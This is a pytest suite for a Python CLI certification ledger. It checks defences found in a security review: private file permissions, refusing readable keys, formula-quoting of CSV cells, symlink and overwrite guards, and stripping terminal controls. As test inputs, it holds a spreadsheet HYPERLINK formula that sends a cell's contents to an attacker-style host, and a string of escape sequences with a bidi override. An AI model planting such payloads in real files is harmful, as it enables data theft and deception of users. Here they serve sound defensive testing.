"""Edges the security review found (issue 15, "safe edges"), each tried as it was found: a
ledger file others can read, a key file others can read, a CSV cell a spreadsheet runs as a
formula, and `peksos ... | head` reported as a failure."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import sqlite3
import stat
import subprocess
from pathlib import Path
from typing import Any

import pytest
from eventsourcing.persistence import OperationalError
from keyring.backend import KeyringBackend

from commands.cells import safe_cell
from tests.cli.helpers import (
    ADMIN,
    AUDITOR,
    LSP,
    event_count,
    make_eligible,
    ok,
    register_member,
    run,
)
from tests.cli.test_e2e import PEKSOS, Peksos, _setup


@pytest.fixture
def store_location(tmp_path: Path) -> str:
    """These edges are the files' and the text's, whatever the store: SQLite only (the access
    matrix and the fault tests run PostgreSQL)."""
    return str(tmp_path / "ledger.sqlite")


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- files at rest ---------------------------------------------------------------------------


def test_a_new_ledger_file_is_its_owners_only(tmp_path: Path) -> None:
    peksos = Peksos(tmp_path)
    before = os.umask(0o022)  # the usual umask, under which the library's file was 0644
    try:
        done = peksos("init", "--admin", ADMIN)
    finally:
        os.umask(before)
    assert done.returncode == 0, done.stderr
    db = Path(peksos.env["PEKSOS_DB"])
    assert mode_of(db) == 0o600
    for journal in (Path(f"{db}-wal"), Path(f"{db}-shm")):
        if journal.exists():
            assert mode_of(journal) & 0o077 == 0, journal


def test_a_migrated_copy_is_its_owners_only(ledger_cli: dict[str, str], tmp_path: Path) -> None:
    target = tmp_path / "copy.sqlite"
    ok("--as", ADMIN, "migrate", "--to", str(target))
    assert mode_of(target) == 0o600


def test_a_migration_into_a_folder_that_is_not_there_names_the_option(
    ledger_cli: dict[str, str], tmp_path: Path
) -> None:
    result = run("--as", ADMIN, "--json", "migrate", "--to", str(tmp_path / "no" / "x.sqlite"))
    assert result.code == 2, result
    assert result.error["message"].startswith("--to ")


@pytest.mark.parametrize("mode", [0o640, 0o604, 0o660], ids=["0640", "0604", "0660"])
def test_a_signing_key_others_may_read_is_refused(ledger_cli: dict[str, str], mode: int) -> None:
    """As OpenSSH refuses an unprotected private key: whoever else can read it can sign."""
    reg = register_member()
    pem = _key_of(ledger_cli, LSP)
    pem.chmod(mode)
    events = event_count()
    result = run("--as", LSP, "--json", "training", "log", reg, "--course", "Etika",
                 "--provider", "LSP", "--hours", "8", "--completed-on", "2012-02-10")  # fmt: skip
    assert result.code == 7, result
    assert f"{mode:04o}" in result.error["message"] and "chmod 600" in result.error["message"]
    assert event_count() == events
    pem.chmod(0o600)
    assert run("--as", LSP, "training", "log", reg, "--course", "Etika", "--provider", "LSP",
               "--hours", "8", "--completed-on", "2012-02-10").code == 0  # fmt: skip


def _key_of(env: dict[str, str], actor: str) -> Path:
    import json

    kid = json.loads(run("--as", AUDITOR, "keys", "show", actor).stdout)["kid"]
    [pem] = Path(env["PEKSOS_KEYS"]).glob(f"*/signing/{kid}.pem")
    return pem


def test_the_nik_index_key_others_may_read_is_refused(ledger_cli: dict[str, str]) -> None:
    [key] = Path(ledger_cli["PEKSOS_KEYS"]).glob("*/nik-index.key")
    key.chmod(0o644)
    result = run("--as", ADMIN, "--json", "member", "register", "--name", "Sukarti",
                 "--nik", "3273015203780001", "--birth-date", "1978-03-12", "--province", "32",
                 "--email", "sukarti@example.org")  # fmt: skip
    assert result.code == 7, result
    assert "too open" in result.error["message"]


# --- spreadsheets ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+2", "+62 812", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Siti Aminah", "Ma'ruf", "2026-06-15", "", "100000"])
def test_an_ordinary_cell_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


def test_the_import_report_quotes_a_formula_in_a_rejected_row(
    ledger_cli: dict[str, str], tmp_path: Path
) -> None:
    listing = tmp_path / "list.csv"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    with listing.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([
            ["name", "nik", "birth_date", "province", "email"],
            [formula, "3273015203780001", "1978-03-12", "32", "x@example.org"],
        ])  # fmt: skip
    report = tmp_path / "report.csv"
    run("--as", ADMIN, "import", "members", str(listing), "--source", "kongres-2010",
        "--report", str(report))  # fmt: skip
    [row] = list(csv.DictReader(io.StringIO(report.read_text(encoding="utf-8"))))
    assert row["outcome"] == "rejected"
    assert row["name"] == "'" + formula


# --- pipes -----------------------------------------------------------------------------------


@pytest.mark.e2e
@pytest.mark.parametrize("json_out", [False, True])
def test_piping_into_a_reader_that_stops_is_not_a_failure(tmp_path: Path, json_out: bool) -> None:
    peksos = Peksos(tmp_path)
    _setup(peksos)
    with_json = ["--json"] if json_out else []
    command = [PEKSOS, "--as", ADMIN, *with_json, "actor", "list"]
    line = " ".join(f"'{part}'" for part in command)
    # `true` reads nothing and is gone long before peksos writes: its write meets a closed pipe
    done = subprocess.run(["bash", "-c", f"set -o pipefail; {line} | true"],
                          env=peksos.env, capture_output=True, text=True, timeout=60)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stderr == ""


# --- output paths ------------------------------------------------------------------------------


def a_list(folder: Path) -> Path:
    listing = folder / "list.csv"
    listing.write_text(
        "name,nik,birth_date,province,email\n"
        "Sukarti,3273015203780001,1978-03-12,32,sukarti@example.org\n",
        encoding="utf-8",
    )
    return listing


def import_with_report(folder: Path, report: Path, *extra: str) -> Any:
    return run("--as", ADMIN, "--json", "import", "members", str(a_list(folder)),
               "--source", "kongres-2010", "--report", str(report), *extra)  # fmt: skip


def test_a_report_over_the_ledger_or_its_keys_is_refused_and_records_nothing(
    ledger_cli: dict[str, str], tmp_path: Path
) -> None:
    db, keys = Path(ledger_cli["PEKSOS_DB"]), Path(ledger_cli["PEKSOS_KEYS"])
    [nik_key] = keys.glob("*/nik-index.key")
    events = event_count()
    stores = [db, Path(f"{db}-wal")] if "://" not in ledger_cli["PEKSOS_DB"] else []  # a file
    for target in (*stores, nik_key, keys / "report.csv"):
        result = import_with_report(tmp_path, target, "--force")
        assert result.code == 2, (target, result)
        assert "own store or key store" in result.error["message"]
    assert event_count() == events
    assert run("--as", AUDITOR, "audit", "verify").code == 0  # the ledger is whole


def test_a_report_over_an_existing_file_needs_force(
    ledger_cli: dict[str, str], tmp_path: Path
) -> None:
    report = tmp_path / "report.csv"
    report.write_text("laporan lama\n")
    events = event_count()
    refused = import_with_report(tmp_path, report)
    assert refused.code == 2 and "--force" in refused.error["message"], refused
    assert report.read_text() == "laporan lama\n" and event_count() == events
    assert import_with_report(tmp_path, report, "--force").code == 0
    assert report.read_text().startswith("line,name,nik,outcome")


def test_a_report_through_a_symbolic_link_is_refused(
    ledger_cli: dict[str, str], tmp_path: Path
) -> None:
    victim = tmp_path / "important.txt"
    victim.write_text("jangan ditimpa\n")
    link = tmp_path / "report.csv"
    link.symlink_to(victim)
    result = import_with_report(tmp_path, link, "--force")
    assert result.code == 2 and "symbolic link" in result.error["message"], result
    assert victim.read_text() == "jangan ditimpa\n"


def test_a_printed_copy_over_an_existing_file_is_refused_and_records_nothing(
    ledger_cli: dict[str, str], tmp_path: Path
) -> None:
    reg = register_member()
    make_eligible(reg, field="anak", level="generalis")
    cert = ok("--as", LSP, "--json", "certify", reg, "--field", "anak",
              "--level", "generalis").json["certificate_no"]  # fmt: skip
    pdf = tmp_path / "sertifikat.pdf"
    pdf.write_bytes(b"lama")
    events = event_count()
    refused = run("--as", LSP, "--json", "certificate", "print", cert, "--out", str(pdf))
    assert refused.code == 2 and refused.error["message"].startswith("--out "), refused
    assert pdf.read_bytes() == b"lama" and event_count() == events
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".sertifikat")]
    printed = run("--as", LSP, "certificate", "print", cert, "--out", str(pdf), "--force")
    assert printed.code == 0, printed
    assert pdf.read_bytes().startswith(b"%PDF") and event_count() > events


# --- a full disk -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "error",
    [
        sqlite3.OperationalError("database or disk is full"),
        OperationalError('could not extend file "base/16384/2619": No space left on device'),
        OSError(errno.ENOSPC, "No space left on device"),
    ],
    ids=["sqlite", "postgresql", "a file"],
)
def test_a_full_disk_says_so(error: Exception, capsys: pytest.CaptureFixture[str]) -> None:
    """Not "busy, retry" (which sends the officer into a loop), nor a bad path."""
    from commands.cli import errors

    assert errors.report(error, as_json=True) == 5
    reported = json.loads(capsys.readouterr().err)["error"]
    assert reported["code"] == "conflict"
    assert "the disk is full" in reported["message"] and "free space" in reported["message"]


def test_a_save_that_finds_the_disk_full_is_not_retried_as_busy(tmp_path: Path) -> None:
    from ledger.application import Ledger
    from ledger.errors import Conflict
    from ledger.storage.store import open_store

    tries = []

    def save() -> dict[str, Any]:
        tries.append(1)
        raise OperationalError("database or disk is full")

    with (
        Ledger(open_store(str(tmp_path / "l.sqlite"))) as ledger,
        pytest.raises(Conflict, match="the disk is full"),
    ):
        ledger.attempt(save)
    assert len(tries) == 1


# --- what a terminal is shown ------------------------------------------------------------------

HOSTILE = "Siti\x1b[2J\x1b[31mAminah\u202egnp.exe\x07\x9b"


def test_controls_and_bidi_overrides_never_reach_the_terminal(
    ledger_cli: dict[str, str], tmp_path: Path
) -> None:
    """A legacy row's name with an escape sequence (clear the screen, turn red), a right-to-left
    override and a bell: the import's table of rejected rows, a lookup's error and the CSV
    report show the text without them."""
    listing = tmp_path / "list.csv"
    with listing.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([
            ["name", "nik", "birth_date", "province", "email"],
            [HOSTILE, "3273015203780001", "1978-03-12", "99", "x@example.org"],
        ])  # fmt: skip
    report = tmp_path / "report.csv"
    result = run("--as", ADMIN, "import", "members", str(listing), "--source", "kongres-2010",
                 "--report", str(report))  # fmt: skip
    missing = run("--as", HOSTILE, "member", "list")
    for text in (result.stdout, result.stderr, missing.stderr, report.read_text("utf-8")):
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), text
    assert "Siti[2J[31mAminahgnp.exe" in report.read_text("utf-8")  # harmless without ESC


def test_a_nik_in_the_name_column_is_masked_in_the_import_report(
    ledger_cli: dict[str, str], tmp_path: Path
) -> None:
    listing = tmp_path / "swapped.csv"
    listing.write_text(
        "nik,name,birth_date,province,email\n"  # the header says nik first, the cells do not
        "Sukarti,3273015203780001,1978-03-12,32,sukarti@example.org\n",
        encoding="utf-8",
    )
    report = tmp_path / "report.csv"
    result = run("--as", ADMIN, "--json", "import", "members", str(listing), "--source",
                 "kongres-2010", "--report", str(report))  # fmt: skip
    assert "3273015203780001" not in result.stdout + result.stderr + report.read_text()
    assert "0001" in report.read_text()


# --- file arguments are read up to a cap ---------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "option"),
    [
        (["certificate", "verify", "/dev/zero"], "FILE"),
        (["sipps", "verify", "/dev/zero"], "FILE"),
        (["audit", "verify", "--trusted-keys", "/dev/zero"], "--trusted-keys"),
        (["audit", "verify", "--against", "/dev/zero"], "--against"),
        (["import", "members", "/dev/zero", "--source", "x", "--dry-run"], "FILE"),
    ],
    ids=["certificate-verify", "sipps-verify", "trusted-keys", "against", "import"],
)
def test_an_endless_file_is_refused_not_read_forever(
    ledger_cli: dict[str, str], args: list[str], option: str
) -> None:
    done = subprocess.run([PEKSOS, "--as", ADMIN, "--json", *args], capture_output=True,
                          text=True, timeout=60, env={**os.environ, **ledger_cli})  # fmt: skip
    assert done.returncode == 2, done.stderr
    message = json.loads(done.stderr)["error"]["message"]
    assert message.startswith(f"{option} /dev/zero holds more than"), message


def test_a_status_list_that_is_too_large_is_refused(
    ledger_cli: dict[str, str], tmp_path: Path
) -> None:
    token, big = tmp_path / "t.jwt", tmp_path / "big.jwt"
    token.write_text("x.y.z")
    big.write_bytes(b"a" * (2**20 + 1))
    result = run("--as", AUDITOR, "--json", "certificate", "verify", str(token),
                 "--status-list", str(big))  # fmt: skip
    assert result.code == 2 and result.error["message"].startswith("--status-list "), result


# --- actor names a reader cannot tell apart ----------------------------------------------------


def test_an_actor_name_with_a_letter_that_only_looks_latin_is_refused(
    ledger_cli: dict[str, str],
) -> None:
    events = event_count()
    impostor = "B\u043embang Wibisono"  # a Cyrillic "о": it reads as Bambang Wibisono, the LSP
    result = run("--as", ADMIN, "--json", "actor", "add", impostor, "--role", "lsp")
    assert result.code == 2, result
    assert "CYRILLIC SMALL LETTER O" in result.error["message"]
    assert result.error["details"][0]["field"] == "NAME"
    accented = run("--as", ADMIN, "--json", "actor", "add", "Ratna Sarí", "--role", "auditor")
    assert accented.code == 5 and "only in accents" in accented.error["message"], accented
    assert event_count() == events


@pytest.mark.parametrize(
    "name", ["Ma'ruf Amin", "Ni Luh Putu Ayu Kusumawati Dewi", "Ahmad", "I Gusti Ngurah Rai"]
)
def test_indonesian_actor_names_are_enrolled(ledger_cli: dict[str, str], name: str) -> None:
    assert run("--as", ADMIN, "actor", "add", name, "--role", "auditor").code == 0


def test_a_name_differing_only_in_its_apostrophe_is_a_conflict(ledger_cli: dict[str, str]) -> None:
    assert run("--as", ADMIN, "actor", "add", "Ma'ruf Amin", "--role", "auditor").code == 0
    twin = run("--as", ADMIN, "--json", "actor", "add", "Ma\u2019ruf Amin", "--role", "lsp")
    assert twin.code == 5, twin


# --- signing keys encrypted at rest ----------------------------------------------------------


def test_with_a_passphrase_signing_keys_are_stored_encrypted(
    cli_env: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PEKSOS_DB", str(tmp_path / "encrypted.sqlite"))
    monkeypatch.setenv("PEKSOS_KEYS", str(tmp_path / "encrypted-keys"))
    monkeypatch.setenv("PEKSOS_KEY_PASSPHRASE", "kata sandi kantor IPSPI")
    ok("init", "--admin", ADMIN)
    ok("--as", ADMIN, "actor", "add", LSP, "--role", "lsp")
    pems = list((tmp_path / "encrypted-keys").glob("*/signing/*.pem"))
    assert len(pems) == 3  # the admin's, the LSP's and the ledger's log key
    for pem in pems:
        assert pem.read_bytes().startswith(b"-----BEGIN ENCRYPTED PRIVATE KEY-----"), pem
    events = event_count()

    monkeypatch.delenv("PEKSOS_KEY_PASSPHRASE")
    without = run("--as", ADMIN, "--json", "actor", "add", AUDITOR, "--role", "auditor")
    assert without.code == 7 and "PEKSOS_KEY_PASSPHRASE" in without.error["message"], without
    monkeypatch.setenv("PEKSOS_KEY_PASSPHRASE", "kata sandi yang salah")
    wrong = run("--as", ADMIN, "--json", "actor", "add", AUDITOR, "--role", "auditor")
    assert wrong.code == 7 and "does not open" in wrong.error["message"], wrong
    assert event_count() == events

    monkeypatch.setenv("PEKSOS_KEY_PASSPHRASE", "kata sandi kantor IPSPI")
    ok("--as", ADMIN, "actor", "add", AUDITOR, "--role", "auditor")
    assert ok("--as", AUDITOR, "--json", "audit", "verify").json["verified"] is True


class OfficeKeyring(KeyringBackend):
    """A keyring held in memory, as the OS keyring would hold the passphrase."""

    priority = 1  # type: ignore[assignment]

    def __init__(self) -> None:
        super().__init__()
        self.secrets: dict[tuple[str, str], str] = {}

    def get_password(self, service: str, username: str) -> str | None:
        return self.secrets.get((service, username))

    def set_password(self, service: str, username: str, password: str) -> None:
        self.secrets[(service, username)] = password

    def delete_password(self, service: str, username: str) -> None:
        del self.secrets[(service, username)]


def test_the_key_passphrase_may_live_in_the_os_keyring(
    cli_env: dict[str, str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import keyring

    previous = keyring.get_keyring()
    office = OfficeKeyring()
    keyring.set_keyring(office)
    try:
        office.set_password("peksos", "key-passphrase", "kata sandi di keyring")
        monkeypatch.setenv("PEKSOS_DB", str(tmp_path / "keyring.sqlite"))
        monkeypatch.setenv("PEKSOS_KEYS", str(tmp_path / "keyring-keys"))
        monkeypatch.delenv("PEKSOS_KEY_PASSPHRASE", raising=False)
        ok("init", "--admin", ADMIN)
        pems = list((tmp_path / "keyring-keys").glob("*/signing/*.pem"))
        assert pems and all(
            p.read_bytes().startswith(b"-----BEGIN ENCRYPTED PRIVATE KEY-----") for p in pems
        )
        ok("--as", ADMIN, "actor", "add", AUDITOR, "--role", "auditor")
        events = event_count()

        office.delete_password("peksos", "key-passphrase")
        without = run("--as", ADMIN, "--json", "actor", "add", LSP, "--role", "lsp")
        assert without.code == 7 and "keyring" in without.error["message"], without
        assert event_count() == events
    finally:
        keyring.set_keyring(previous)
